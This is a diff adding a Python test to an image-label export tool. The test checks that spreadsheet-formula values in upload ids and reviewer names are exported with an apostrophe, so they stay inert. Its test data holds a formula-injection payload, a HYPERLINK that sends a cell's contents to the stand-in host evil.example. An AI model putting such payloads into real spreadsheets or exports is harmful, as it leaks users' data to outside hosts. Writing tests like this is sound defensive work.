@@ -213,6 +213,18 @@ def test_the_same_image_labelled_both_ways_is_reported(ledger, tmp_path):
     assert report.conflicting_images == [sha(JPEG)] and report.exported == 2 and report.images_written == 1
 
 
+def test_ids_and_names_that_look_like_formulas_are_cells_not_formulas(ledger, tmp_path):
+    # given an upload whose platform id, and a reviewer whose key name, start like spreadsheet formulas
+    desk = Desk(ledger)
+    hostile = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+    desk.decide(desk.blob(hostile, JPEG), "ai_generated", reviewer="@SUM(1+1)")
+    desk.decide(desk.blob("post-plain", PNG), "authentic")
+    # when they are exported, then those cells start with an apostrophe, and the rest are as they were
+    rows = rows_of(export_labels(settings_for(ledger), ledger, tmp_path).manifest)
+    assert rows["'" + hostile]["reviewer"] == "'@SUM(1+1)"
+    assert rows["post-plain"]["reviewer"] == "mod-ana"
+
+
 def _cli_env(ledger: Ledger) -> dict[str, str]:
     return {
         "ITEM_DATABASE_URL": ledger.engine.url.render_as_string(hide_password=False),
